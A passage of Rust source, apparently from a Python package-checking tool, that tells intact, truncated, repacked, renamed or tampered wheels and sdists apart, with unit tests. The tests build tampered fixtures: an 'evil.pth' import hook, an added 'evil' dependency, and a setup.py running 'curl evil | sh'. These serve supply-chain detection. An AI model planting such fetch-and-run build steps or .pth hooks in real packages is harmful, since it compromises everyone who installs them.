        out,
        "{changed_count} {} changed, {} added, {} removed",
        if changed_count == 1 {
            "member"
        } else {
            "members"
        },
        changes.added.len(),
        changes.removed.len(),
    );
    for notable in &changes.notable {
        let _ = writeln!(out, "! {notable}");
    }
    for (sign, paths) in [
        ('+', &changes.added),
        ('-', &changes.removed),
        ('~', &changes.changed),
    ] {
        for path in paths.iter().take(MAX_LISTED_PATHS) {
            let _ = writeln!(out, "{sign} {}", escape_for_terminal(path));
        }
        if paths.len() > MAX_LISTED_PATHS {
            let _ = writeln!(out, "… and {} more", paths.len() - MAX_LISTED_PATHS);
        }
    }
    for diff in [&changes.metadata_diff, &changes.entry_points_diff]
        .into_iter()
        .flatten()
    {
        out.push_str(diff);
        if !diff.ends_with('\n') {
            out.push('\n');
        }
    }
    out
}

/// What downloaded bytes turned out to be, before anything is recorded from them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Shape {
    /// Not looked at: nobody asked, or the bytes are already recorded and add nothing.
    Unexamined,
    /// The archive the filename promises: a readable zip with its `*.dist-info/METADATA` for a
    /// wheel, a readable zip or gzip'd tar for an sdist. Also a format this module does not
    /// read (`.tar.bz2`, `.egg`) whose first bytes are not a page, a document or text, and an
    /// archive too large to read to its end, whose structure did open.
    Archive,
    /// Not the archive the filename promises; what arrived, in words ("an HTML page of 135
    /// bytes", "a zip archive cut short after 500 bytes").
    NotAnArchive(String),
}

/// How far [`examine`] reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Depth {
    /// Far enough to see a body cut short: a gzip stream to its end, a zip's directory.
    Whole,
    /// Bytes the index vouches for with a declared digest they have: no transfer cut them, so
    /// only their outward shape is read (a gzip stream's magic; a zip's directory, and that a
    /// wheel's lists its metadata), which still tells an error page the index published from
    /// an archive.
    Published,
}

/// Says whether the bytes at `path` are the archive `filename` promises, reading them the way
/// [`summarize`] does (as far as `depth` says), so that what a command records is what `check`
/// and pip can read. Nothing is extracted.
///
/// # Errors
///
/// The file itself could not be read (the disk, not the bytes).
pub(crate) fn examine(path: &Path, filename: &str, depth: Depth) -> io::Result<Shape> {
    let size = Size(fs_err::metadata(path)?.len());
    if size.0 == 0 {
        return Ok(Shape::NotAnArchive("an empty body".to_string()));
    }
    if ArchiveKind::from_filename(filename).is_none() {
        // A format not read here (`.tar.bz2`, `.tar.xz`, `.tar`, ...): it must at least start
        // as that format does, and an xz stream must end as one does (found in review: a cut
        // `.tar.bz2` was recorded). A bz2 stream's end is not byte-aligned, so a cut one is
        // only caught by a digest the index declares.
        match foreign_format_refusal(path, filename, size)? {
            Some(Some(refusal)) => return Ok(Shape::NotAnArchive(refusal)),
            Some(None) => return Ok(Shape::Archive),
            None => {}
        }
        let looks_like = sniff(path);
        return Ok(
            if [
                "an HTML page",
                "an XML document",
                "a JSON document",
                "plain text",
            ]
            .contains(&looks_like.as_str())
            {
                Shape::NotAnArchive(format!("{looks_like} of {size}"))
            } else {
                Shape::Archive
            },
        );
    }
    if depth == Depth::Published && outward_shape_holds(path, filename)? {
        return Ok(Shape::Archive);
    }
    Ok(match read_archive(path, filename, MemberDigests::Skipped) {
        Ok(summary)
            if summary.distribution == Distribution::Wheel && summary.metadata.is_none() =>
        {
            Shape::NotAnArchive(format!(
                "a zip archive of {size} without `*.dist-info/METADATA`"
            ))
        }
        // Too large to read to its end (or to be worth it), but it opened as an archive; a
        // wheel still needs its metadata, which its zip directory names without reading.
        Err(InspectError::TooLarge { .. })
            if filename.to_ascii_lowercase().ends_with(".whl") && !wheel_lists_metadata(path) =>
        {
            Shape::NotAnArchive(format!(
                "a zip archive of {size} without `*.dist-info/METADATA`"
            ))
        }
        Ok(_) | Err(InspectError::TooLarge { .. }) => Shape::Archive,
        Err(InspectError::NotAnArchive { .. }) => {
            Shape::NotAnArchive(format!("{} of {size}", sniff(path)))
        }
        Err(InspectError::Truncated { kind, .. }) => {
            Shape::NotAnArchive(format!("a {kind} cut short after {size}"))
        }
        Err(InspectError::MalformedZip { .. }) => {
            Shape::NotAnArchive(format!("a damaged zip archive of {size}"))
        }
        Err(InspectError::MalformedTarGz { .. }) => {
            Shape::NotAnArchive(format!("a damaged gzip'd tar archive of {size}"))
        }
        Err(InspectError::DuplicateMembers { .. }) => Shape::NotAnArchive(
            "a zip archive that lists a member path twice, so installers may disagree about its contents".to_string(),
        ),
        Err(InspectError::Io { source, .. }) => return Err(source),
        Err(InspectError::UnsupportedFilename { .. }) => Shape::Archive,
    })
}

/// Whether a wheel's zip directory names a `*.dist-info/METADATA`, read without inflating
/// anything.
fn wheel_lists_metadata(path: &Path) -> bool {
    let Ok(file) = fs_err::File::open(path) else {
        return false;
    };
    ZipArchive::new(BufReader::new(file)).is_ok_and(|archive| lists_metadata(&archive))
}

/// Whether published bytes look as their filename promises from outside: a zip directory that
/// opens, names each member once and (a wheel) lists its metadata; a gzip magic. When not,
/// the whole read says exactly what is wrong.
fn outward_shape_holds(path: &Path, filename: &str) -> io::Result<bool> {
    let file = fs_err::File::open(path)?;
    Ok(match ArchiveKind::from_filename(filename) {
        Some(ArchiveKind::Zip) => ZipArchive::new(BufReader::new(file)).is_ok_and(|archive| {
            !archive.has_duplicate_names()
                && (Distribution::from_filename(filename) != Distribution::Wheel
                    || lists_metadata(&archive))
        }),
        Some(ArchiveKind::TarGz) => {
            let mut magic = Vec::with_capacity(2);
            file.take(2).read_to_end(&mut magic)?;
            magic == [0x1f, 0x8b]
        }
        None => false,
    })
}

/// Whether a zip's directory names a `*.dist-info/METADATA` at its root.
fn lists_metadata<R: Read + Seek>(archive: &ZipArchive<R>) -> bool {
    archive.file_names().any(|name| {
        name.is_ok_and(|name| {
            name.split_once('/')
                .is_some_and(|(top, rest)| top.ends_with(".dist-info") && rest == "METADATA")
        })
    })
}

/// For a format `summarize` does not read, why the bytes are not one: they do not start with
/// its magic number, or (xz) do not end with its footer. `Some(None)` when they may be one,
/// `None` when the format is not known here at all.
fn foreign_format_refusal(
    path: &Path,
    filename: &str,
    size: Size,
) -> io::Result<Option<Option<String>>> {
    let lower = filename.to_ascii_lowercase();
    let (format, magic, offset): (&str, &[u8], u64) =
        if lower.ends_with(".tar.bz2") || lower.ends_with(".tbz") {
            ("bzip2", b"BZh", 0)
        } else if lower.ends_with(".tar.xz") || lower.ends_with(".txz") {
            ("xz", b"\xfd7zXZ\x00", 0)
        } else if lower.ends_with(".tar") {
            ("tar", b"ustar", 257)
        } else if lower.ends_with(".egg") {
            ("zip", b"PK", 0)
        } else {
            return Ok(None);
        };
    let mut file = fs_err::File::open(path)?;
    let mut head = vec![0_u8; magic.len()];
    let starts_right = file.seek(SeekFrom::Start(offset)).is_ok()
        && file.read_exact(&mut head).is_ok()
        && head == magic;
    if !starts_right {
        return Ok(Some(Some(format!(
            "{} of {size}, not a {format} archive",
            sniff(path)
        ))));
    }
    if format == "xz" {
        let mut tail = [0_u8; 2];
        let ends_right = size.0 >= 2
            && file.seek(SeekFrom::End(-2)).is_ok()
            && file.read_exact(&mut tail).is_ok()
            && &tail == b"YZ";
        if !ends_right {
            return Ok(Some(Some(format!("an xz stream cut short after {size}"))));
        }
    }
    Ok(Some(None))
}

/// Why two byte strings under one filename differ, judged from the bytes themselves.
#[derive(Debug)]
pub(crate) enum Difference {
    /// The observed bytes are a strict prefix of the recorded ones, or shorter and not a valid
    /// archive: a cut-off download. Without recorded bytes, an archive that starts right but
    /// ends abruptly (a zip without its end record, a gzip stream that stops early) is reported
    /// with `recorded_size` 0, meaning unknown.
    Truncated {
        /// Size of the recorded bytes, or 0 when unknown.
        recorded_size: u64,
        /// Size of the observed bytes.
        observed_size: u64,
    },
    /// Not an archive of the kind the filename promises; says what it looks like ("an HTML
    /// page", "a JSON document", "an XML document", "empty", "plain text", "a zip archive",
    /// "a gzip stream", "unknown binary").
    NotAnArchive {
        /// A short description of the bytes.
        looks_like: String,
    },
    /// Same members with the same contents, only the archive bytes differ (re-zipped or
    /// re-gzipped by a proxy or a re-upload).
    Repacked,
    /// The archive's metadata names another project or version than the filename: a different
    /// file renamed. Holds the name and version the metadata gives.
    DifferentFile {
        /// `Name:` from the metadata, as written.
        name: String,
        /// `Version:` from the metadata, as written.
        version: String,
    },
    /// Contents changed: the archive was modified.
    Modified(ArchiveChanges),
    /// The observed bytes are a readable archive, but the earlier bytes are not cached (or
    /// cannot be read), so what changed inside cannot be said.
    Unknown,
    /// The observed bytes start like the promised archive but cannot be read safely: damaged,
    /// over a size limit, or listing a path twice. The error says which.
    Unreadable(InspectError),
}

/// Says why the observed bytes differ from the recorded ones.
///
/// `recorded`: the cached earlier bytes if available (`None` when not cached). `observed`: the
/// new bytes on disk. `filename`: the artifact filename, which gives the project and version
/// (wheel `{name}-{version}-...whl`, sdist `{name}-{version}.tar.gz`) and the archive kind.
/// Meant for bytes whose hash differs; identical bytes come out as [`Difference::Repacked`].
pub(crate) fn explain(recorded: Option<&Path>, observed: &Path, filename: &str) -> Difference {
    let observed_size = match fs_err::metadata(observed) {
        Ok(metadata) => metadata.len(),
        Err(source) => {
            return Difference::Unreadable(InspectError::Io {
                path: observed.to_path_buf(),
                source,
            });
        }
    };
    if observed_size == 0 {
        return Difference::NotAnArchive {
            looks_like: "empty".to_string(),
        };
    }
    let recorded_size = recorded
        .and_then(|path| fs_err::metadata(path).ok())
        .map(|metadata| metadata.len());
    let shorter_than_recorded = recorded_size.is_some_and(|size| observed_size < size);
    let truncated = Difference::Truncated {
        recorded_size: recorded_size.unwrap_or(0),
        observed_size,
    };
    if let Some(recorded) = recorded
        && shorter_than_recorded
        && is_prefix_of(observed, recorded).unwrap_or(false)
    {
        return truncated;
    }

    let observed_summary = match summarize(observed, filename) {
        Ok(summary) => summary,
        Err(InspectError::NotAnArchive { .. }) => {
            return Difference::NotAnArchive {
                looks_like: sniff(observed),
            };
        }
        Err(InspectError::Truncated { .. }) => return truncated,
        Err(InspectError::MalformedZip { .. } | InspectError::MalformedTarGz { .. })
            if shorter_than_recorded =>
        {
            return truncated;
        }
        Err(error) => return Difference::Unreadable(error),
    };
    if let Some((name, version)) = foreign_identity(&observed_summary, filename) {
        return Difference::DifferentFile { name, version };
    }
    let Some(recorded) = recorded else {
        return Difference::Unknown;
    };
    let Ok(recorded_summary) = summarize(recorded, filename) else {
        return Difference::Unknown;
    };
    let changes = compare(&recorded_summary, &observed_summary);
    if changes.is_empty() {
        Difference::Repacked
    } else {
        Difference::Modified(changes)
    }
}

/// Whether the first file's bytes are exactly the start of the second's.
fn is_prefix_of(prefix: &Path, whole: &Path) -> io::Result<bool> {
    let mut prefix = BufReader::new(fs_err::File::open(prefix)?);
    let mut whole = BufReader::new(fs_err::File::open(whole)?);
    let mut prefix_chunk = vec![0; 64 * 1024];
    let mut whole_chunk = vec![0; 64 * 1024];
    loop {
        let read = prefix.read(&mut prefix_chunk)?;
        if read == 0 {
            return Ok(true);
        }
        match whole.read_exact(&mut whole_chunk[..read]) {
            Ok(()) => {}
            // The whole ends first: it is shorter, so not what this starts with.
            Err(error) if error.kind() == io::ErrorKind::UnexpectedEof => return Ok(false),
            Err(error) => return Err(error),
        }
        if prefix_chunk[..read] != whole_chunk[..read] {
            return Ok(false);
        }
    }
}

/// The metadata's name and version when they are not the project and version in the filename.
fn foreign_identity(summary: &ArchiveSummary, filename: &str) -> Option<(String, String)> {
    let metadata = summary.metadata.as_deref()?;
    let name = metadata_values(metadata, "Name").next()?;
    let version = metadata_values(metadata, "Version").next()?;
    // Knowing the project lets legacy sdist names with `-` in them split correctly.
    let expected = ArtifactName::parse(filename, Some(&PackageName::new(name))).ok()?;
    let same_project = expected.project == PackageName::new(name);
    let same_version = match (&expected.version, version.parse::<pep440_rs::Version>()) {
        (Some(in_filename), Ok(in_metadata)) => *in_filename == in_metadata,
        _ => expected.version_text.eq_ignore_ascii_case(version),
    };
    (!same_project || !same_version).then(|| (name.to_string(), version.to_string()))
}

/// What a file that is not the promised archive looks like, from its first bytes.
fn sniff(path: &Path) -> String {
    let mut head = Vec::with_capacity(SNIFF_BYTES);
    let read = fs_err::File::open(path)
        .and_then(|file| file.take(SNIFF_BYTES as u64).read_to_end(&mut head));
    if read.is_err() {
        return "unknown binary".to_string();
    }
    describe_bytes(&head).to_string()
}

/// A short description of what some leading bytes are.
fn describe_bytes(head: &[u8]) -> &'static str {
    if head.is_empty() {
        return "empty";
    }
    if head.starts_with(b"PK\x03\x04") || head.starts_with(ZIP_END_SIGNATURE) {
        return "a zip archive";
    }
    if head.starts_with(&[0x1f, 0x8b]) {
        return "a gzip stream";
    }
    let text = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
    let start = text
        .iter()
        .position(|byte| !byte.is_ascii_whitespace())
        .unwrap_or(text.len());
    let text = &text[start..];
    let opening = text[..text.len().min(512)].to_ascii_lowercase();
    if opening.starts_with(b"<!doctype html")
        || [b"<html".as_slice(), b"<head", b"<body"]
            .iter()
            .any(|tag| opening.windows(tag.len()).any(|window| window == *tag))
    {
        return "an HTML page";
    }
    if opening.starts_with(b"<?xml") {
        return "an XML document";
    }
    if opening.starts_with(b"{") || opening.starts_with(b"[") {
        return "a JSON document";
    }
    if looks_like_text(head) {
        return "plain text";
    }
    "unknown binary"
}

/// Valid UTF-8 (allowing a character cut at the end of the sample) without control characters
/// other than whitespace.
fn looks_like_text(head: &[u8]) -> bool {
    let valid = match std::str::from_utf8(head) {
        Ok(text) => text,
        // A multi-byte character cut by the sample's end is still text.
        Err(error) if error.error_len().is_none() => {
            match std::str::from_utf8(&head[..error.valid_up_to()]) {
                Ok(text) => text,
                Err(_) => return false,
            }
        }
        Err(_) => return false,
    };
    valid.chars().all(|character| {
        !character.is_control() || matches!(character, '\n' | '\r' | '\t' | '\u{c}')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    use std::io::Cursor;

    use flate2::Compression;
    use flate2::write::GzEncoder;
    use zip::write::SimpleFileOptions;
    use zip::{CompressionMethod, DateTime, ZipWriter};

    const WHEEL: &str = "demo-1.0-py3-none-any.whl";
    const SDIST: &str = "demo-1.0.tar.gz";

    const METADATA: &str = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo\nRequires-Dist: requests\n\nA long description.\n";

    fn wheel_members() -> Vec<(&'static str, String)> {
        vec![
            ("demo/__init__.py", "print('hello')\n".to_string()),
            ("demo/core.py", "def run():\n    return 1\n".to_string()),
            ("demo-1.0.dist-info/METADATA", METADATA.to_string()),
            (
                "demo-1.0.dist-info/WHEEL",
                "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n".to_string(),
            ),
        ]
    }

    /// Zips members in memory, then writes the bytes to a temp file.
    fn write_zip(
        directory: &tempfile::TempDir,
        file_name: &str,
        members: &[(&str, String)],
        method: CompressionMethod,
        year: u16,
    ) -> PathBuf {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        let options = SimpleFileOptions::default()
            .compression_method(method)
            .last_modified_time(DateTime::from_date_and_time(year, 1, 2, 3, 4, 6).unwrap());
        for (name, content) in members {
            writer.start_file(*name, options).unwrap();
            writer.write_all(content.as_bytes()).unwrap();
        }
        let bytes = writer.finish().unwrap().into_inner();
        write_bytes(directory, file_name, &bytes)
    }

    fn write_tar_gz(
        directory: &tempfile::TempDir,
        file_name: &str,
        members: &[(&str, String)],
    ) -> PathBuf {
        let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
        for (name, content) in members {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            header.set_entry_type(tar::EntryType::Regular);
            builder
                .append_data(&mut header, name, content.as_bytes())
                .unwrap();
        }
        let bytes = builder.into_inner().unwrap().finish().unwrap();
        write_bytes(directory, file_name, &bytes)
    }

    fn write_bytes(directory: &tempfile::TempDir, file_name: &str, bytes: &[u8]) -> PathBuf {
        let path = directory.path().join(file_name);
        std::fs::write(&path, bytes).unwrap();
        path
    }

    fn replace(members: &mut [(&str, String)], name: &str, content: &str) {
        let member = members.iter_mut().find(|(path, _)| *path == name).unwrap();
        member.1 = content.to_string();
    }

    #[test]
    fn examine_accepts_archives_and_names_what_else_arrived() {
        let directory = tempfile::tempdir().unwrap();
        let wheel = write_zip(
            &directory,
            "w.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        assert_eq!(
            examine(&wheel, WHEEL, Depth::Whole).unwrap(),
            Shape::Archive
        );
        let sdist = write_tar_gz(
            &directory,
            "s.tar.gz",
            &[("demo-1.0/PKG-INFO", METADATA.to_string())],
        );
        assert_eq!(
            examine(&sdist, SDIST, Depth::Whole).unwrap(),
            Shape::Archive
        );

        let shape = |name: &str, bytes: &[u8], filename: &str| {
            examine(
                &write_bytes(&directory, name, bytes),
                filename,
                Depth::Whole,
            )
            .unwrap()
        };
        let page = b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>";
        assert_eq!(
            shape("page.whl", page, WHEEL),
            Shape::NotAnArchive("an HTML page of 56 bytes".into())
        );
        assert_eq!(
            shape("page.tar.gz", page, SDIST),
            Shape::NotAnArchive("an HTML page of 56 bytes".into())
        );
        assert_eq!(
            shape("empty.whl", b"", WHEEL),
            Shape::NotAnArchive("an empty body".into())
        );
        // A body cut short: a zip without its end record, a gzip stream that stops early.
        let whole = fs_err::read(&wheel).unwrap();
        assert_eq!(
            shape("cut.whl", &whole[..200], WHEEL),
            Shape::NotAnArchive("a zip archive cut short after 200 bytes".into())
        );
        let whole = fs_err::read(&sdist).unwrap();
        assert!(
            matches!(shape("cut.tar.gz", &whole[..whole.len() / 2], SDIST), Shape::NotAnArchive(what) if what.contains("gzip'd tar archive")),
        );
        // A zip without `.dist-info/METADATA` is no wheel; as an sdist it is fine.
        let bare = write_zip(
            &directory,
            "bare.zip",
            &[("demo/__init__.py", String::new())],
            CompressionMethod::Stored,
            2020,
        );
        assert!(
            matches!(examine(&bare, WHEEL, Depth::Whole).unwrap(), Shape::NotAnArchive(what) if what.ends_with("without `*.dist-info/METADATA`"))
        );
        assert_eq!(
            examine(&bare, "demo-1.0.zip", Depth::Whole).unwrap(),
            Shape::Archive
        );
        // Bytes the index vouches for are read no deeper than their outward shape: a gzip
        // stream cut in the middle is what the index published, an HTML page is still none.
        let cut = fs_err::read(&sdist).unwrap();
        let cut = write_bytes(&directory, "cut-published.tar.gz", &cut[..cut.len() / 2]);
        assert_eq!(
            examine(&cut, SDIST, Depth::Published).unwrap(),
            Shape::Archive
        );
        assert!(matches!(
            examine(&cut, SDIST, Depth::Whole).unwrap(),
            Shape::NotAnArchive(_)
        ));
        let page_path = write_bytes(&directory, "published-page.tar.gz", page);
        assert_eq!(
            examine(&page_path, SDIST, Depth::Published).unwrap(),
            Shape::NotAnArchive("an HTML page of 56 bytes".into())
        );
        assert_eq!(
            examine(&wheel, WHEEL, Depth::Published).unwrap(),
            Shape::Archive
        );
        let bare_wheel = write_zip(
            &directory,
            "bare-published.whl",
            &[("demo/__init__.py", String::new())],
            CompressionMethod::Stored,
            2020,
        );
        assert!(matches!(
            examine(&bare_wheel, WHEEL, Depth::Published).unwrap(),
            Shape::NotAnArchive(what) if what.ends_with("without `*.dist-info/METADATA`")
        ));
        let page_path = write_bytes(&directory, "published-page.whl", page);
        assert_eq!(
            examine(&page_path, WHEEL, Depth::Published).unwrap(),
            Shape::NotAnArchive("an HTML page of 56 bytes".into())
        );
        // The shape is told without hashing or inflating members other than the metadata:
        // a byte flipped inside a module is pinned by the file's hash, and only a summary that
        // explains a change (which hashes every member) sees it fail its CRC.
        let stored = write_zip(
            &directory,
            "stored.whl",
            &wheel_members(),
            CompressionMethod::Stored,
            2020,
        );
        let shape_only = read_archive(&stored, WHEEL, MemberDigests::Skipped).unwrap();
        assert_eq!(shape_only.members.len(), 4);
        assert!(shape_only.members.values().all(|m| m.sha256.is_empty()));
        assert_eq!(shape_only.metadata.as_deref(), Some(METADATA));
        let mut flipped = fs_err::read(&stored).unwrap();
        let at = flipped
            .windows(5)
            .position(|window| window == b"print")
            .unwrap();
        flipped[at] ^= 0x20;
        assert_eq!(shape("flipped.whl", &flipped, WHEEL), Shape::Archive);
        let flipped = write_bytes(&directory, "flipped-again.whl", &flipped);
        assert!(matches!(
            summarize(&flipped, WHEEL),
            Err(InspectError::MalformedZip { .. })
        ));
        // A damaged metadata member is still read, and refused.
        let mut damaged = fs_err::read(&stored).unwrap();
        let at = damaged
            .windows(8)
            .position(|window| window == b"Metadata")
            .unwrap();
        damaged[at] ^= 0x20;
        assert!(matches!(
            shape("damaged-metadata.whl", &damaged, WHEEL),
            Shape::NotAnArchive(what) if what.starts_with("a damaged zip archive")
        ));
        // Formats not read here are refused only when they are plainly something else.
        assert_eq!(
            shape(
                "s.tar.bz2",
                b"BZh91AY&SY\x8a\x01\x00\xff",
                "demo-1.0.tar.bz2"
            ),
            Shape::Archive
        );
        assert_eq!(
            shape("p.tar.bz2", b"Not Found", "demo-1.0.tar.bz2"),
            Shape::NotAnArchive("plain text of 9 bytes, not a bzip2 archive".into())
        );
    }

    #[test]
    fn summarizes_a_wheel_with_metadata() {
        let directory = tempfile::tempdir().unwrap();
        let path = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let summary = summarize(&path, WHEEL).unwrap();
        assert_eq!(summary.kind, ArchiveKind::Zip);
        assert_eq!(summary.distribution, Distribution::Wheel);
        assert_eq!(summary.members.len(), 4);
        assert_eq!(summary.metadata.as_deref(), Some(METADATA));
        assert_eq!(summary.entry_points, None);
        let init = &summary.members["demo/__init__.py"];
        assert_eq!(init.size, 15);
        assert_eq!(
            init.sha256,
            hex::encode(Sha256::digest(b"print('hello')\n"))
        );
    }

    #[test]
    fn republished_wheel_with_pth_and_new_dependency_is_modified() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let mut members = wheel_members();
        replace(&mut members, "demo/core.py", "def run():\n    return 2\n");
        replace(
            &mut members,
            "demo-1.0.dist-info/METADATA",
            &METADATA.replace(
                "Requires-Dist: requests\n",
                "Requires-Dist: requests\nRequires-Dist: evil\n",
            ),
        );
        members.push(("evil.pth", "import evil\n".to_string()));
        let observed = write_zip(
            &directory,
            "observed.whl",
            &members,
            CompressionMethod::Deflated,
            2020,
        );

        let Difference::Modified(changes) = explain(Some(&recorded), &observed, WHEEL) else {
            panic!("expected Modified");
        };
        assert_eq!(changes.added, ["evil.pth"]);
        assert_eq!(changes.removed, Vec::<String>::new());
        assert_eq!(
            changes.changed,
            ["demo-1.0.dist-info/METADATA", "demo/core.py"]
        );
        assert_eq!(
            changes.notable,
            [
                Notable::PthFile("evil.pth".to_string()),
                Notable::NewDependency("evil".to_string()),
            ]
        );
        let metadata_diff = changes.metadata_diff.as_deref().unwrap();
        assert!(metadata_diff.starts_with("--- recorded/METADATA\n+++ observed/METADATA\n"));
        assert!(metadata_diff.contains("\n+Requires-Dist: evil\n"));
        assert_eq!(changes.entry_points_diff, None);

        assert_eq!(
            render(&changes),
            "\
2 members changed, 1 added, 0 removed
! .pth file `evil.pth` (runs at every interpreter start)
! new dependency `evil` (Requires-Dist)
+ evil.pth
~ demo-1.0.dist-info/METADATA
~ demo/core.py
--- recorded/METADATA
+++ observed/METADATA
@@ -3,5 +3,6 @@
 Version: 1.0
 Summary: A demo
 Requires-Dist: requests
+Requires-Dist: evil
 
 A long description.
"
        );
    }

    #[test]
    fn rezipped_wheel_with_same_contents_is_repacked() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let mut reordered = wheel_members();
        reordered.reverse();
        let observed = write_zip(
            &directory,
            "observed.whl",
            &reordered,
            CompressionMethod::Stored,
            2024,
        );
        assert_ne!(
            std::fs::read(&recorded).unwrap(),
            std::fs::read(&observed).unwrap()
        );
        assert!(matches!(
            explain(Some(&recorded), &observed, WHEEL),
            Difference::Repacked
        ));
    }

    #[test]
    fn first_half_of_the_bytes_is_truncated() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let bytes = std::fs::read(&recorded).unwrap();
        let observed = write_bytes(&directory, "observed.whl", &bytes[..bytes.len() / 2]);
        let Difference::Truncated {
            recorded_size,
            observed_size,
        } = explain(Some(&recorded), &observed, WHEEL)
        else {
            panic!("expected Truncated");
        };
        assert_eq!(recorded_size, bytes.len() as u64);
        assert_eq!(observed_size, (bytes.len() / 2) as u64);
    }

    #[test]
    fn truncation_is_seen_without_the_recorded_bytes() {
        let directory = tempfile::tempdir().unwrap();
        let wheel = write_zip(
            &directory,
            "whole.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let bytes = std::fs::read(&wheel).unwrap();
        let cut_wheel = write_bytes(&directory, "cut.whl", &bytes[..bytes.len() / 2]);
        assert!(matches!(
            explain(None, &cut_wheel, WHEEL),
            Difference::Truncated { recorded_size: 0, observed_size } if observed_size == (bytes.len() / 2) as u64
        ));

        let sdist = write_tar_gz(&directory, "whole.tar.gz", &sdist_members());
        let bytes = std::fs::read(&sdist).unwrap();
        // Cut inside the deflate stream, and cut in the gzip trailer (after tar's end blocks).
        for cut in [bytes.len() / 2, bytes.len() - 10] {
            let cut_sdist = write_bytes(&directory, "cut.tar.gz", &bytes[..cut]);
            let difference = explain(None, &cut_sdist, SDIST);
            assert!(
                matches!(
                    difference,
                    Difference::Truncated {
                        recorded_size: 0,
                        ..
                    }
                ),
                "{cut}: {difference:?}"
            );
        }
    }

    #[test]
    fn html_error_page_is_not_an_archive() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let observed = write_bytes(
            &directory,
            "observed.whl",
            b"\n<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head></html>\n",
        );
        let difference = explain(Some(&recorded), &observed, WHEEL);
        assert!(
            matches!(&difference, Difference::NotAnArchive { looks_like } if looks_like == "an HTML page"),
            "{difference:?}"
        );
    }

    #[test]
    fn describes_what_non_archives_look_like() {
        for (bytes, expected) in [
            (&b""[..], "empty"),
            (b"{\"message\": \"not found\"}", "a JSON document"),
            (b"<?xml version=\"1.0\"?><Error/>", "an XML document"),
            (b"Not Found\n", "plain text"),
            (b"\x00\x01\x02\xff", "unknown binary"),
            (b"\x1f\x8b\x08\x00", "a gzip stream"),
        ] {
            assert_eq!(describe_bytes(bytes), expected, "{bytes:?}");
        }
        let directory = tempfile::tempdir().unwrap();
        let empty = write_bytes(&directory, "empty.whl", b"");
        assert!(matches!(
            explain(None, &empty, WHEEL),
            Difference::NotAnArchive { looks_like } if looks_like == "empty"
        ));
    }

    #[test]
    fn wheel_of_another_project_renamed_is_a_different_file() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_zip(
            &directory,
            "recorded.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        let other = vec![
            ("other/__init__.py", String::new()),
            (
                "other-2.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: Other\nVersion: 2.0\n".to_string(),
            ),
        ];
        let observed = write_zip(
            &directory,
            "observed.whl",
            &other,
            CompressionMethod::Deflated,
            2020,
        );
        let difference = explain(Some(&recorded), &observed, WHEEL);
        assert!(
            matches!(&difference, Difference::DifferentFile { name, version } if name == "Other" && version == "2.0"),
            "{difference:?}"
        );
        // Same project, spelled differently, same version: not a different file.
        let respelled = vec![(
            "Demo-1.0.dist-info/METADATA",
            "Name: DEMO\nVersion: 1.0.0\n".to_string(),
        )];
        let observed = write_zip(
            &directory,
            "respelled.whl",
            &respelled,
            CompressionMethod::Deflated,
            2020,
        );
        assert!(matches!(
            explain(None, &observed, WHEEL),
            Difference::Unknown
        ));
    }

    fn sdist_members() -> Vec<(&'static str, String)> {
        vec![
            (
                "demo-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_string(),
            ),
            (
                "demo-1.0/setup.py",
                "from setuptools import setup\nsetup()\n".to_string(),
            ),
            ("demo-1.0/demo/__init__.py", String::new()),
        ]
    }

    #[test]
    fn sdist_with_changed_setup_py_flags_the_build_script() {
        let directory = tempfile::tempdir().unwrap();
        let recorded = write_tar_gz(&directory, "recorded.tar.gz", &sdist_members());
        let mut members = sdist_members();
        replace(
            &mut members,
            "demo-1.0/setup.py",
            "import os; os.system('curl evil | sh')\n",
        );
        let observed = write_tar_gz(&directory, "observed.tar.gz", &members);

        let summary = summarize(&observed, SDIST).unwrap();
        assert_eq!(summary.kind, ArchiveKind::TarGz);
        assert_eq!(summary.distribution, Distribution::Sdist);
        assert!(summary.metadata.unwrap().contains("Name: demo"));

        let Difference::Modified(changes) = explain(Some(&recorded), &observed, SDIST) else {
            panic!("expected Modified");
        };
        assert_eq!(changes.changed, ["demo-1.0/setup.py"]);
        assert_eq!(
            changes.notable,
            [Notable::BuildScript("demo-1.0/setup.py".to_string())]
        );
        assert_eq!(changes.metadata_diff, None);
        assert!(render(&changes).starts_with(
            "1 member changed, 0 added, 0 removed\n! build script `demo-1.0/setup.py`"
        ));
    }

    #[test]
    fn valid_archive_without_recorded_bytes_is_unknown() {
        let directory = tempfile::tempdir().unwrap();
        let observed = write_zip(
            &directory,
            "observed.whl",
            &wheel_members(),
            CompressionMethod::Deflated,
            2020,
        );
        assert!(matches!(
            explain(None, &observed, WHEEL),
            Difference::Unknown
        ));
    }

    #[test]
    fn member_paths_are_data_not_filesystem_paths() {
